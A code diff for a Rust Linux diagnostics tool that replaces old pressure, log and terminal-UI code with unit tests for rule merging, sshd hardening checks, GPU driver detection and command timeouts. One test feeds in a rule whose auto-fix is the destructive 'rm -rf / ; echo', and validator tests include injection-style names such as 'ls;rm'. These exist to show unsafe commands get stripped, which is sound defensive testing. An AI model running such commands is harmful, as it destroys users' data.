-        let parts: Vec<&str> = line.split_whitespace().collect();
-        if parts.len() < 5 {
-            continue;
-        }
-        let status = parts[3];
-        if status == "Running" || status == "Completed" {
-            continue;
-        }
-        let namespace = parts[0];
-        let name = parts[1];
-        let ready = parts[2];
-        let restarts = parts.get(4).copied().unwrap_or("0");
-        lines.push(InsightLine {
-            level: InsightLevel::Warning,
-            message: format!(
-                "{namespace}/{name} — status={status} ready={ready} restarts={restarts}"
-            ),
-        });
-        if lines.len() >= limit {
-            break;
-        }
+
+    #[test]
+    fn test_long_process_name_is_truncated() {
+        let name = format!("java-{}", "x".repeat(600));
+        let column = fit_column(&name, PROCESS_NAME_WIDTH);
+        assert_eq!(column.width(), PROCESS_NAME_WIDTH);
+        assert!(column.starts_with("java-x"));
+        assert!(column.ends_with('…'));
+
+        assert_eq!(fit_column("bash", 6), "bash  ");
+        assert_eq!(truncate("exactly10!", 10), "exactly10!");
+        // Wide characters take two columns each
+        let wide = truncate("日本語のプロセス名", 7);
+        assert_eq!(wide, "日本語…");
+        assert!(wide.width() <= 7);
     }
-    if lines.is_empty() {
-        Err(t!("kube_node_pod_clean").to_string())
-    } else {
-        Ok(lines)
+
+    #[test]
+    fn test_security_score() {
+        let all_pass = [
+            (SecurityCheck::MacEnforcing, true),
+            (SecurityCheck::FirewallActive, true),
+            (SecurityCheck::NoRiskyPorts, true),
+            (SecurityCheck::SshHardened, true),
+            (SecurityCheck::AutoUpdates, true),
+        ];
+        let score = security_score(&all_pass).unwrap();
+        assert_eq!((score.score, score.grade), (100, 'A'));
+        assert!(score.failing.is_empty());
+
+        let mixed = [
+            (SecurityCheck::MacEnforcing, false),
+            (SecurityCheck::FirewallActive, true),
+            (SecurityCheck::NoRiskyPorts, true),
+            (SecurityCheck::SshHardened, false),
+            (SecurityCheck::AutoUpdates, true),
+        ];
+        let score = security_score(&mixed).unwrap();
+        assert_eq!((score.score, score.grade), (60, 'D'));
+        assert_eq!(
+            score.failing,
+            vec![SecurityCheck::MacEnforcing, SecurityCheck::SshHardened]
+        );
+
+        // Checks that could not run are left out rather than failed
+        let partial = [
+            (SecurityCheck::MacEnforcing, true),
+            (SecurityCheck::FirewallActive, false),
+        ];
+        assert_eq!(security_score(&partial).unwrap().score, 50);
+        assert!(security_score(&[]).is_none());
+
+        assert!(is_risky_exposed("0.0.0.0:6379"));
+        assert!(is_risky_exposed("[::]:3306"));
+        assert!(!is_risky_exposed("127.0.0.1:6379"));
+        assert!(!is_risky_exposed("0.0.0.0:443"));
+
+        assert!(sshd_hardened(
+            "PermitRootLogin no\nPasswordAuthentication no\n"
+        ));
+        assert!(!sshd_hardened("#PasswordAuthentication no\n"));
+        assert!(!sshd_hardened(
+            "PasswordAuthentication no\nPermitRootLogin yes\nPermitRootLogin no\n"
+        ));
+        // `sshd -T` output: lowercase keys, defaults spelled out
+        assert!(sshd_hardened(
+            "port 22\npermitrootlogin without-password\npasswordauthentication no\n"
+        ));
+    }
+
+    #[test]
+    fn test_sshd_config_follows_includes() {
+        let dir = std::env::temp_dir().join(format!("why-sshd-{}", std::process::id()));
+        let drop_ins = dir.join("sshd_config.d");
+        fs::create_dir_all(&drop_ins).unwrap();
+        // Debian/Fedora ship an early drop-in that turns passwords back on
+        fs::write(
+            drop_ins.join("50-cloud-init.conf"),
+            "PasswordAuthentication yes\n",
+        )
+        .unwrap();
+        fs::write(drop_ins.join("90-local.conf"), "PermitRootLogin no\n").unwrap();
+        fs::write(drop_ins.join("ignored.txt"), "PermitRootLogin yes\n").unwrap();
+        let main = dir.join("sshd_config");
+        fs::write(
+            &main,
+            format!(
+                "Include {}/*.conf\nPasswordAuthentication no\n",
+                drop_ins.display()
+            ),
+        )
+        .unwrap();
+
+        let mut config = String::new();
+        read_sshd_config(&main, 0, &mut config).unwrap();
+        assert_eq!(
+            config,
+            "PasswordAuthentication yes\nPermitRootLogin no\nPasswordAuthentication no\n"
+        );
+        assert!(!sshd_hardened(&config));
+        assert_eq!(
+            sshd_include_paths("sshd_config.d/*.conf"),
+            sshd_include_paths(&format!("{SSHD_CONFIG_DIR}/sshd_config.d/*.conf"))
+        );
+
+        // An Include that includes itself stops at sshd's depth limit
+        fs::write(&main, format!("Include {}\n", main.display())).unwrap();
+        let mut config = String::new();
+        read_sshd_config(&main, 0, &mut config).unwrap();
+        assert!(config.is_empty());
+        fs::remove_dir_all(&dir).unwrap();
     }
-}
 
-#[derive(Clone, Copy)]
-struct PressureSample {
-    avg10: f32,
-    avg60: f32,
-    avg300: f32,
-}
+    #[test]
+    fn test_process_io_rates() {
+        let io = "rchar: 5000\nwchar: 900\nsyscr: 10\nsyscw: 4\nread_bytes: 4096\nwrite_bytes: 8192\ncancelled_write_bytes: 0\n";
+        assert_eq!(
+            parse_proc_io(io),
+            Some(ProcIo {
+                read_bytes: 4096,
+                write_bytes: 8192
+            })
+        );
+        assert_eq!(parse_proc_io("rchar: 1\n"), None);
 
-fn read_pressure(resource: &str) -> Option<(PressureSample, Option<PressureSample>)> {
-    let path = format!("/proc/pressure/{resource}");
-    let data = fs::read_to_string(path).ok()?;
-    let mut some = None;
-    let mut full = None;
-    for line in data.lines() {
-        if line.starts_with("some") {
-            some = parse_pressure_line(line);
-        } else if line.starts_with("full") {
-            full = parse_pressure_line(line);
-        }
+        let sample = |read, write| ProcIo {
+            read_bytes: read,
+            write_bytes: write,
+        };
+        let before = vec![
+            (10, "postgres".to_string(), sample(1_000, 0)),
+            (20, "rsync".to_string(), sample(0, 0)),
+            (30, "idle".to_string(), sample(50, 50)),
+        ];
+        let after = vec![
+            (10, "postgres".to_string(), sample(3_000, 0)),
+            (20, "rsync".to_string(), sample(0, 40_000)),
+            (30, "idle".to_string(), sample(50, 50)),
+            // Started after the first sample: no rate yet
+            (40, "new".to_string(), sample(999, 999)),
+        ];
+        let rates = io_rates(&before, &after, Duration::from_secs(2));
+        assert_eq!(rates.len(), 2);
+        assert_eq!(rates[0].name, "rsync");
+        assert_eq!(rates[0].write_per_sec, 20_000.0);
+        assert_eq!(rates[1].name, "postgres");
+        assert_eq!(rates[1].read_per_sec, 1_000.0);
+
+        let lines = io_process_lines(&rates, 3);
+        assert!(lines[0].message.contains("rsync"));
+        assert!(lines[1].message.contains("postgres"));
+        assert!(lines.last().unwrap().message.contains('3'));
     }
-    some.map(|entry| (entry, full))
-}
 
-fn parse_pressure_line(line: &str) -> Option<PressureSample> {
-    let mut avg10 = None;
-    let mut avg60 = None;
-    let mut avg300 = None;
-    for token in line.split_whitespace() {
-        if let Some(value) = token.strip_prefix("avg10=") {
-            avg10 = value.parse::<f32>().ok();
-        } else if let Some(value) = token.strip_prefix("avg60=") {
-            avg60 = value.parse::<f32>().ok();
-        } else if let Some(value) = token.strip_prefix("avg300=") {
-            avg300 = value.parse::<f32>().ok();
-        }
+    #[test]
+    fn test_rules_dir_merges_files_and_reports_collisions() {
+        let dir = std::env::temp_dir().join(format!("why-rules-d-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let rule = |name: &str, trigger: &str| {
+            format!(
+                "[[rule]]\nname = \"{name}\"\ntrigger = \"{trigger}\"\nmessage = \"m\"\nsolution = \"s\"\nseverity = 5\n"
+            )
+        };
+        fs::write(dir.join("10-team.toml"), rule("team_cpu", "cpu>70")).unwrap();
+        fs::write(
+            dir.join("20-host.toml"),
+            rule("team_cpu", "cpu>95") + &rule("host_mem", "mem>80"),
+        )
+        .unwrap();
+        fs::write(dir.join("README"), "not a rule file").unwrap();
+
+        let files = load_rules_dir(&dir).unwrap();
+        assert_eq!(files.len(), 2);
+        let base = vec![Rule {
+            name: "base".to_string(),
+            trigger: "disk_full>90".to_string(),
+            message: "m".to_string(),
+            solution: "s".to_string(),
+            severity: 5,
+            auto_fix: None,
+            history: true,
+            actionable: None,
+        }];
+        let (rules, collisions) = merge_rules(base, files);
+        let names: Vec<&str> = rules.iter().map(|rule| rule.name.as_str()).collect();
+        assert_eq!(names, vec!["base", "team_cpu", "host_mem"]);
+        assert_eq!(rules[1].trigger, "cpu>95");
+        assert_eq!(
+            collisions,
+            vec![RuleCollision {
+                name: "team_cpu".to_string(),
+                previous: Some(dir.join("10-team.toml")),
+                replacement: dir.join("20-host.toml"),
+            }]
+        );
+        fs::remove_dir_all(&dir).unwrap();
     }
-    Some(PressureSample {
-        avg10: avg10?,
-        avg60: avg60?,
-        avg300: avg300?,
-    })
-}
 
-fn detect_proton_version() -> Option<String> {
-    let mut home = user_home_dir()?;
-    home.push(".steam/steam/steamapps/common");
+    #[test]
+    fn test_merge_rule_sets_override_by_name() {
+        let rule = |name: &str, trigger: &str, auto_fix: Option<&str>| Rule {
+            name: name.to_string(),
+            trigger: trigger.to_string(),
+            message: "m".to_string(),
+            solution: "s".to_string(),
+            severity: 5,
+            auto_fix: auto_fix.map(str::to_string),
+            history: true,
+            actionable: None,
+        };
+        let base = vec![
+            rule("disk", "disk_full>90", None),
+            rule("cpu", "cpu>80", None),
+        ];
+        let system = vec![
+            rule("cpu", "cpu>90", None),
+            rule("org_vpn", "process_running=vpnd", None),
+        ];
+        let user = vec![
+            rule(
+                "org_vpn",
+                "process_running=openvpn",
+                Some("systemctl --user restart openvpn"),
+            ),
+            rule("evil", "cpu>1", Some("rm -rf / ; echo")),
+        ];
+        let (mut rules, collisions) = merge_rules(
+            base,
+            vec![
+                (PathBuf::from("/etc/why/rules.d/org.toml"), system),
+                (PathBuf::from("/home/u/.config/why/rules.d/me.toml"), user),
+            ],
+        );
+        let names: Vec<&str> = rules.iter().map(|rule| rule.name.as_str()).collect();
+        assert_eq!(names, vec!["disk", "cpu", "org_vpn", "evil"]);
+        assert_eq!(rules[1].trigger, "cpu>90");
+        assert_eq!(rules[2].trigger, "process_running=openvpn");
+        assert_eq!(collisions.len(), 2);
+        assert_eq!(collisions[0].previous, None);
+
+        assert_eq!(
+            strip_unsafe_auto_fixes(&mut rules),
+            vec!["evil".to_string()]
+        );
+        assert_eq!(rules[3].auto_fix, None);
+        assert_eq!(
+            rules[2].auto_fix.as_deref(),
+            Some("systemctl --user restart openvpn")
+        );
+    }
 
-    if let Ok(entries) = fs::read_dir(&home) {
-        for entry in entries.flatten() {
-            let name = entry.file_name();
-            let name_str = name.to_string_lossy();
-            if name_str.starts_with("Proton") {
-                return Some(name_str.to_string());
-            }
-        }
+    #[test]
+    fn test_gpu_driver_mismatch() {
+        let proprietary = "NVRM version: NVIDIA UNIX x86_64 Kernel Module  550.54.14  Thu Feb 22 01:44:30 UTC 2024
+GCC version:  gcc version 13.2.1 20230801 (GCC)
+";
+        let open = "NVRM version: NVIDIA UNIX Open Kernel Module for x86_64  555.42.02  Release Build  (dvs-builder@U16-I3-B03-4-3)  Tue May 14 00:05:41 UTC 2024
+";
+        assert_eq!(
+            parse_nvrm_version(proprietary).as_deref(),
+            Some("550.54.14")
+        );
+        assert_eq!(parse_nvrm_version(open).as_deref(), Some("555.42.02"));
+        assert_eq!(parse_nvrm_version("GCC version: 13.2"), None);
+
+        let state = |loaded: &str, installed: &str| NvidiaDriverState {
+            loaded: Some(loaded.to_string()),
+            installed: Some(installed.to_string()),
+            nvml_mismatch: false,
+        };
+        assert!(state("550.54.14", "550.67").mismatch());
+        assert!(!state("550.67", "550.67").mismatch());
+        assert!(is_nvml_mismatch(
+            "Failed to initialize NVML: Driver/library version mismatch\nNVML library version: 550.67\n"
+        ));
+        let nvml_only = NvidiaDriverState {
+            nvml_mismatch: true,
+            ..Default::default()
+        };
+        assert!(nvml_only.mismatch());
+        assert!(!NvidiaDriverState::default().mismatch());
+
+        let trigger = parse_trigger("gpu_driver_mismatch=true");
+        let metrics = Metrics {
+            gpu_driver_mismatch: Some(true),
+            ..Default::default()
+        };
+        assert!(trigger_holds(&trigger, &metrics, None));
+        assert!(!trigger_holds(&trigger, &Metrics::default(), None));
     }
-    None
-}
 
-fn is_safe_auto_fix(cmd: &str) -> bool {
-    // Block shell metacharacters to prevent command injection
-    const DANGEROUS_CHARS: &[char] = &[
-        ';', '|', '&', '$', '`', '>', '<', '\n', '\r', '(', ')', '{', '}',
-    ];
+    #[test]
+    fn test_env_conditions() {
+        assert!(parse_condition("env[]=x").is_none());
+        assert!(parse_condition("env[BAD-NAME]=x").is_none());
+        assert!(parse_condition("env_set[WHY_TEST_ENV_SET]=maybe").is_none());
+        assert!(matches!(
+            parse_condition("env[__GLX_VENDOR_LIBRARY_NAME]=nvidia"),
+            Some(Condition::EnvEquals { var, value })
+                if var == "__GLX_VENDOR_LIBRARY_NAME" && value == "nvidia"
+        ));
 
-    if cmd.chars().any(|c| DANGEROUS_CHARS.contains(&c)) {
-        return false;
+        let metrics = Metrics::default();
+        let holds = |token: &str| condition_holds(&parse_condition(token).unwrap(), &metrics, None);
+        env::remove_var("WHY_TEST_ENV_UNSET");
+        assert!(holds("env_set[WHY_TEST_ENV_UNSET]=false"));
+        assert!(!holds("env_set[WHY_TEST_ENV_UNSET]=true"));
+        assert!(!holds("env[WHY_TEST_ENV_UNSET]="));
+
+        env::set_var("WHY_TEST_ENV_SET", "radeonsi");
+        assert!(holds("env_set[WHY_TEST_ENV_SET]=true"));
+        assert!(holds("env[WHY_TEST_ENV_SET]=radeonsi"));
+        assert!(!holds("env[WHY_TEST_ENV_SET]=iris"));
+        assert!(holds("!env[WHY_TEST_ENV_SET]=iris"));
     }
 
-    let whitelist = [
-        "bluetoothctl power off",
-        "bluetoothctl power on",
-        "snap remove",
-        "flatpak uninstall",
-        "balooctl",
-        "systemctl --user",
-        "docker image prune",
-    ];
+    #[test]
+    fn test_negated_conditions() {
+        let not_foo = parse_condition("!process=foo").unwrap();
+        assert!(matches!(&not_foo, Condition::Not(inner)
+            if matches!(inner.as_ref(), Condition::ProcessContains(name) if name == "foo")));
+        let with_foo = Metrics {
+            process_names: vec!["foo".to_string(), "bash".to_string()],
+            ..Default::default()
+        };
+        let without_foo = Metrics {
+            process_names: vec!["bash".to_string()],
+            ..Default::default()
+        };
+        assert!(!condition_holds(&not_foo, &with_foo, None));
+        assert!(condition_holds(&not_foo, &without_foo, None));
+
+        let not_oom = parse_condition("!log_contains=oom").unwrap();
+        assert!(!condition_holds(
+            &not_oom,
+            &without_foo,
+            Some("kernel: oom-kill")
+        ));
+        assert!(condition_holds(&not_oom, &without_foo, Some("all quiet")));
 
-    // Check for exact match OR prefix with space (to allow arguments)
-    whitelist
-        .iter()
-        .any(|allowed| cmd == *allowed || cmd.starts_with(&format!("{} ", allowed)))
-}
+        assert!(parse_condition("!bogus>1").is_none());
 
-fn recent_logs() -> Option<String> {
-    LOG_CACHE.get_or_init(fetch_recent_logs).clone()
-}
+        let cool = parse_condition("!gpu_temp>80").unwrap();
+        assert!(!condition_holds(&cool, &without_foo, None));
+        let measured = Metrics {
+            gpu: Some(GpuDetails {
+                temperature: Some(60.0),
+                ..Default::default()
+            }),
+            ..Default::default()
+        };
+        assert!(condition_holds(&cool, &measured, None));
+        assert!(!condition_holds(
+            &parse_condition("!loadavg>4").unwrap(),
+            &without_foo,
+            None
+        ));
 
-fn fetch_recent_logs() -> Option<String> {
-    let journal = Command::new("journalctl")
-        .args(["-n", "500", "--no-pager"])
-        .output()
-        .ok();
-    if let Some(output) = journal {
-        if output.status.success() {
-            return Some(String::from_utf8_lossy(&output.stdout).into());
+        let trigger = parse_trigger("!process=steam && gpu_temp>80");
+        let hot = Metrics {
+            gpu: Some(GpuDetails {
+                vendor: "nvidia".into(),
+                temperature: Some(85.0),
+                ..Default::default()
+            }),
+            ..Default::default()
+        };
+        assert!(trigger_holds(&trigger, &hot, None));
+    }
+
+    #[test]
+    fn test_timeout_abandons_slow_probe() {
+        fn measure(probe: Probe) -> ProbeUpdate {
+            match probe {
+                Probe::Wifi => {
+                    std::thread::sleep(Duration::from_secs(5));
+                    Box::new(|metrics| metrics.wifi_signal_dbm = Some(-40.0))
+                }
+                _ => Box::new(|metrics| metrics.battery_drain_w = Some(7.5)),
+            }
         }
+        let sys = System::new();
+        let started = Instant::now();
+        let budget = Duration::from_millis(300);
+        let (metrics, timed_out) =
+            Metrics::gather_within(&sys, &[Probe::Battery, Probe::Wifi], budget, measure);
+        assert!(started.elapsed() < Duration::from_secs(2));
+        assert_eq!(timed_out, vec![Probe::Wifi]);
+        assert_eq!(metrics.battery_drain_w, Some(7.5));
+        assert_eq!(metrics.wifi_signal_dbm, None);
+
+        let rendered = output::render(OutputFormat::Json, &[], &metrics, &[], None, true).unwrap();
+        assert!(rendered.contains("\"battery_drain_w\":7.5"));
+
+        let slow = || {
+            std::thread::sleep(Duration::from_secs(1));
+            1
+        };
+        assert_eq!(run_until(Instant::now(), slow), None);
+        assert_eq!(
+            run_until(Instant::now() + Duration::from_secs(2), || 42),
+            Some(42)
+        );
+        // Started early, collected later: the job ran in the meantime
+        let pending = spawn_job(|| 7);
+        std::thread::sleep(Duration::from_millis(50));
+        assert_eq!(pending.recv_timeout(Duration::ZERO), Ok(7));
     }
-    let dmesg = Command::new("dmesg").output().ok()?;
-    if dmesg.status.success() {
-        return Some(String::from_utf8_lossy(&dmesg.stdout).into());
+
+    #[test]
+    fn test_min_severity_filter() {
+        let all = vec![
+            test_finding("info", 1),
+            test_finding("notice", 4),
+            test_finding("warn", 5),
+            test_finding("fire", 9),
+        ];
+        let mut findings = all.clone();
+        retain_min_severity(&mut findings, 5);
+        let kept: Vec<&str> = findings.iter().map(|f| f.rule_name.as_str()).collect();
+        assert_eq!(kept, vec!["warn", "fire"]);
+
+        let mut findings = all.clone();
+        retain_min_severity(&mut findings, 0);
+        assert_eq!(findings.len(), all.len());
+
+        let cli = Cli::try_parse_from(["why", "--min-severity", "7"]).unwrap();
+        assert_eq!(cli.min_severity, 7);
+        assert!(Cli::try_parse_from(["why", "--min-severity", "11"]).is_err());
     }
-    None
-}
 
-fn tui_mode() -> Result<()> {
-    let rules = load_rules()?;
-    let parsed_rules: Vec<(Vec<Condition>, Rule)> = rules
-        .into_iter()
-        .map(|rule| (parse_trigger(&rule.trigger), rule))
-        .collect();
-    let mut stdout = stdout();
-    enable_raw_mode().context("Failed to enable raw mode")?;
-    stdout
-        .execute(EnterAlternateScreen)
-        .context("Failed to switch screen")?;
-    let backend = CrosstermBackend::new(stdout);
-    let mut terminal = Terminal::new(backend)?;
-    let mut sys = System::new_all();
+    #[test]
+    fn test_findings_classified_as_actionable_or_informational() {
+        let rules: RulesFile = toml::from_str(
+            r#"
+[[rule]]
+name = "fixable"
+trigger = "cpu>1"
+message = "m"
+solution = "Wait for it"
+severity = 5
+auto_fix = "systemctl restart foo"
+
+[[rule]]
+name = "manual"
+trigger = "cpu>1"
+message = "m"
+solution = "Close heavy apps or add more swap"
+severity = 5
+actionable = true
+
+[[rule]]
+name = "unmarked"
+trigger = "cpu>1"
+message = "m"
+solution = "Close heavy apps or add more swap"
+severity = 5
+
+[[rule]]
+name = "fixable_but_informational"
+trigger = "cpu>1"
+message = "m"
+solution = "Wait for resilver to finish"
+severity = 5
+auto_fix = "zpool status"
+actionable = false
+"#,
+        )
+        .unwrap();
+        let actionable: Vec<bool> = rules.rule.iter().map(Rule::is_actionable).collect();
+        assert_eq!(actionable, [true, true, false, false]);
+        // config-check flags the rule that fell back to informational silently
+        assert_eq!(unclassified_rules(&rules.rule), ["unmarked"]);
+
+        // The shipped rules say so explicitly instead of relying on the default
+        let shipped: RulesFile = toml::from_str(include_str!("../rules.toml")).unwrap();
+        let resilver = shipped
+            .rule
+            .iter()
+            .find(|rule| rule.name == "zfs_resilver_running")
+            .unwrap();
+        assert!(!resilver.is_actionable());
+        assert!(unclassified_rules(&shipped.rule).is_empty());
+        assert!(shipped
+            .rule
+            .iter()
+            .filter(|rule| rule.name != "zfs_resilver_running")
+            .all(Rule::is_actionable));
+    }
 
-    // Cache GPU info and refresh every 5 seconds to avoid hammering GPU tools
-    let mut gpu_cache: Option<GpuDetails> = None;
-    let mut last_gpu_refresh = std::time::Instant::now();
-    let gpu_refresh_interval = Duration::from_secs(5);
+    #[test]
+    fn test_json_flag_captures_sections() {
+        let cli = Cli::try_parse_from(["why", "--json", "io"]).unwrap();
+        assert!(cli.json);
+        assert!(Cli::try_parse_from(["why", "--json", "--format", "yaml"]).is_err());
+        assert!(reports_sections(&Commands::Storage { smart_full: false }));
+        assert!(!reports_sections(&Commands::All));
+
+        let sections = capture_sections(|| {
+            print_header("not captured");
+            print_section(
+                "Pressure",
+                Ok(vec![InsightLine {
+                    level: InsightLevel::Warning,
+                    message: "some avg10=25.00%".to_string(),
+                }]),
+            );
+            print_section("Pools", Err("zpool command missing.".to_string()));
+            Ok(())
+        })
+        .unwrap();
+        assert!(!capturing_sections());
+
+        let rendered = output::render(
+            OutputFormat::Json,
+            &[],
+            &Metrics::default(),
+            &sections,
+            None,
+            true,
+        )
+        .unwrap();
+        let parsed: serde_json::Value = serde_json::from_str(&rendered).unwrap();
+        assert_eq!(parsed["sections"][0]["title"], "Pressure");
+        assert_eq!(parsed["sections"][0]["lines"][0]["level"], "warning");
+        assert_eq!(parsed["sections"][1]["error"], "zpool command missing.");
+        assert!(parsed["sections"][1]["lines"]
+            .as_array()
+            .unwrap()
+            .is_empty());
+
+        // Handlers that used to println! now land in the report too
+        let db = temp_history_db("fixes-sections");
+        let log = db.dir.join("fixes.log");
+        fs::write(&log, "2024-05-01 swap_thrashing: sysctl vm.swappiness=10\n").unwrap();
+        let sections = capture_sections(|| show_fixes_log(&log)).unwrap();
+        assert_eq!(sections.len(), 1);
+        assert!(matches!(sections[0].lines[0].level, InsightLevel::Info));
+        assert!(sections[0].lines[0].message.contains("swap_thrashing"));
+        fs::remove_file(&log).unwrap();
+        let sections = capture_sections(|| show_fixes_log(&log)).unwrap();
+        assert!(matches!(sections[0].lines[0].level, InsightLevel::Warning));
+    }
 
-    // History for graphs (keep last 60 data points = 12 seconds at 200ms refresh)
-    use std::collections::VecDeque;
-    let mut cpu_history: VecDeque<u64> = VecDeque::with_capacity(60);
-    let mut ram_history: VecDeque<u64> = VecDeque::with_capacity(60);
+    #[test]
+    fn test_steam_launch_options_follow_hardware_and_tools() {
+        let with_vendor = |vendor: &str| Metrics {
+            gpu: Some(GpuDetails {
+                vendor: vendor.to_string(),
+                ..Default::default()
+            }),
+            ..Default::default()
+        };
+        let nvidia = with_vendor("nvidia");
+
+        let all_tools = |_: &str| true;
+        let no_tools = |_: &str| false;
+        let options = steam_launch_options(&nvidia, true, all_tools);
+        assert_eq!(
+            options,
+            "__NV_PRIME_RENDER_OFFLOAD=1 __GLX_VENDOR_LIBRARY_NAME=nvidia \
+             __VK_LAYER_NV_optimus=NVIDIA_only gamemoderun mangohud %command%"
+        );
+        assert_eq!(steam_launch_options(&nvidia, false, no_tools), "%command%");
+        assert_eq!(
+            steam_launch_options(&with_vendor("amd"), false, |tool: &str| tool == "mangohud"),
+            "RADV_PERFTEST=gpl mangohud %command%"
+        );
+        assert_eq!(
+            steam_launch_options(&Metrics::default(), true, |tool: &str| tool
+                == "gamemoderun"),
+            "gamemoderun %command%"
+        );
+    }
 
-    loop {
-        sys.refresh_all();
+    #[test]
+    fn test_prometheus_metrics_are_valid_exposition_lines() {
+        let metrics = Metrics {
+            cpu_usage: Some(12.5),
+            temperature_c: Some(61.0),
+            gpu: Some(GpuDetails {
+                vendor: "nvidia".to_string(),
+                temperature: Some(70.0),
+                ..Default::default()
+            }),
+            ..Default::default()
+        };
+        let finding = Finding {
+            id: "disk_root_full@90".to_string(),
+            message: "Root partition 93% full".to_string(),
+            ..test_finding("disk_root_full", 9)
+        };
+        let out = output::render(
+            OutputFormat::Prometheus,
+            &[finding],
+            &metrics,
+            &[],
+            None,
+            false,
+        )
+        .unwrap();
 
-        // Refresh GPU info every 5 seconds
-        if last_gpu_refresh.elapsed() >= gpu_refresh_interval {
-            gpu_cache = detect_gpu_info();
-            last_gpu_refresh = std::time::Instant::now();
+        assert!(out.ends_with('\n'));
+        let sample =
+            Regex::new(r#"^why_[a-z_]+(\{[a-z]+="[^"]*"\})? -?[0-9]+(\.[0-9]+)?$"#).unwrap();
+        for line in out.lines().filter(|line| !line.starts_with('#')) {
+            assert!(sample.is_match(line), "invalid sample line: {line:?}");
         }
+        assert!(out.contains("\nwhy_temperature_celsius 61\n"));
+        assert!(out.contains("\nwhy_gpu_temperature_celsius{vendor=\"nvidia\"} 70\n"));
+        assert!(out.contains("\nwhy_finding_count{severity=\"9\"} 1\n"));
+        assert!(out.contains("\nwhy_finding_count{severity=\"1\"} 0\n"));
+        // Metrics that were not gathered are left out, not NaN
+        assert!(!out.contains("why_fan_speed_rpm"));
+        assert!(!out.contains("why_gpu_utilization_percent"));
+        assert!(!out.contains("NaN"));
+    }
 
-        let mut metrics = Metrics::gather(&sys);
-        metrics.gpu = gpu_cache.clone();
+    #[test]
+    fn test_ldd_missing_libraries_are_parsed() {
+        let ldd = "\tlinux-vdso.so.1 (0x00007ffd8b5f2000)
+\tlibQt6Widgets.so.6 => not found
+\tlibssl.so.3 => /lib/x86_64-linux-gnu/libssl.so.3 (0x00007f1c2a400000)
+\tlibicuuc.so.72 => not found
+\tlibc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x00007f1c2a000000)
+\t/lib64/ld-linux-x86-64.so.2 (0x00007f1c2a8b0000)
+";
+        assert_eq!(
+            parse_ldd_missing(ldd),
+            vec!["libQt6Widgets.so.6", "libicuuc.so.72"]
+        );
+        assert!(parse_ldd_missing("\tnot a dynamic executable\n").is_empty());
 
-        // Track CPU/RAM history for graphs
-        cpu_history.push_back(metrics.cpu_usage as u64);
-        ram_history.push_back(metrics.mem_usage as u64);
-        if cpu_history.len() > 60 {
-            cpu_history.pop_front();
-        }
-        if ram_history.len() > 60 {
-            ram_history.pop_front();
-        }
+        assert!(is_valid_command_name("obs-studio"));
+        assert!(!is_valid_command_name("../bin/sh"));
+        assert!(!is_valid_command_name("ls;rm"));
+        assert!(!is_valid_command_name(""));
+        assert_eq!(lookup_in_path("sh", ""), PathLookup::Missing);
+    }
 
-        let findings = evaluate_rules(&metrics, &parsed_rules);
+    #[test]
+    fn test_hung_command_is_killed_after_timeout() {
+        let started = Instant::now();
+        let result =
+            output_with_timeout(Command::new("sleep").arg("10"), Duration::from_millis(200));
+        assert!(started.elapsed() < Duration::from_secs(2));
+        assert_eq!(result.unwrap_err().kind(), std::io::ErrorKind::TimedOut);
+        assert_eq!(
+            run_cmd_with_timeout("sleep", &["10"], Duration::from_millis(200)),
+            None
+        );
+        assert!(started.elapsed() < Duration::from_secs(2));
 
-        terminal.draw(|frame| draw_tui(frame, &metrics, &findings, &cpu_history, &ram_history))?;
+        let echoed = run_cmd_with_timeout("echo", &["ok"], Duration::from_secs(5));
+        assert_eq!(echoed.as_deref(), Some("ok\n"));
 
-        if event::poll(Duration::from_millis(200))? {
-            if let Event::Key(key) = event::read()? {
-                if key.code == KeyCode::Char('q') {
-                    break;
-                }
-            }
-        }
+        // What the command started is killed with it
+        let pid_file = env::temp_dir().join(format!("why-test-group-{}", std::process::id()));
+        let script = format!("sleep 10 & echo $! > {}; wait", pid_file.display());
+        let result = output_with_timeout(
+            Command::new("sh").args(["-c", &script]),
+            Duration::from_millis(300),
+        );
+        assert_eq!(result.unwrap_err().kind(), std::io::ErrorKind::TimedOut);
+        let pid = fs::read_to_string(&pid_file).unwrap();
+        let _ = fs::remove_file(&pid_file);
+        let stat = PathBuf::from(format!("/proc/{}/stat", pid.trim()));
+        let gone = (0..50).any(|_| {
+            // Dead, or a zombie waiting for init to reap it
+            let alive = fs::read_to_string(&stat).is_ok_and(|stat| !stat.contains(") Z "));
+            std::thread::sleep(Duration::from_millis(20));
+            !alive
+        });
+        assert!(gone, "sleep {} survived the timeout", pid.trim());
     }
 
-    disable_raw_mode().context("Failed to disable raw mode")?;
-    terminal
-        .backend_mut()
-        .execute(LeaveAlternateScreen)
-        .context("Failed to leave alternate screen")?;
-    Ok(())
-}
-
-fn draw_tui(
-    frame: &mut Frame,
-    metrics: &Metrics,
-    findings: &[Finding],
-    cpu_history: &std::collections::VecDeque<u64>,
-    ram_history: &std::collections::VecDeque<u64>,
-) {
-    let chunks = Layout::default()
-        .direction(Direction::Vertical)
-        .margin(1)
-        .constraints([
-            Constraint::Length(7), // Graphs
-            Constraint::Length(8), // Vitals
-            Constraint::Min(10),   // Findings
-        ])
-        .split(frame.area());
+    #[test]
+    fn test_worst_finding_survives_display_caps() {
+        let finding = |idx: usize, severity: u8, actionable: bool| Finding {
+            actionable,
+            ..test_finding(&format!("rule_{idx}"), severity)
+        };
+        let mut findings: Vec<Finding> = (0..19).map(|idx| finding(idx, 5, true)).collect();
+        findings.push(finding(19, 10, false));
 
-    // Graph section (split horizontally for CPU and RAM)
-    let graph_chunks = Layout::default()
-        .direction(Direction::Horizontal)
-        .constraints([Constraint::Percentage(50), Constraint::Percentage(50)])
-        .split(chunks[0]);
+        for cap in [1, 3, 8] {
+            let shown = top_findings(&findings, cap);
+            assert_eq!(shown.len(), cap);
+            assert_eq!(shown[0].rule_name, "rule_19");
+        }
 
-    // CPU sparkline
-    let cpu_data: Vec<u64> = cpu_history.iter().copied().collect();
-    let cpu_sparkline = Sparkline::default()
-        .block(
-            Block::default()
-                .title(format!("CPU: {:.1}%", metrics.cpu_usage))
-                .borders(Borders::ALL),
-        )
-        .data(&cpu_data)
-        .style(ratatui::style::Style::default().fg(ratatui::style::Color::Green));
-    frame.render_widget(cpu_sparkline, graph_chunks[0]);
+        let groups = dashboard_groups(&findings);
+        assert_eq!(groups[0].0, "dashboard_info_header");
+        assert_eq!(groups[0].1[0].severity_value, 10);
+        assert_eq!(groups[1].1.len(), 19);
+    }
 
-    // RAM sparkline
-    let ram_data: Vec<u64> = ram_history.iter().copied().collect();
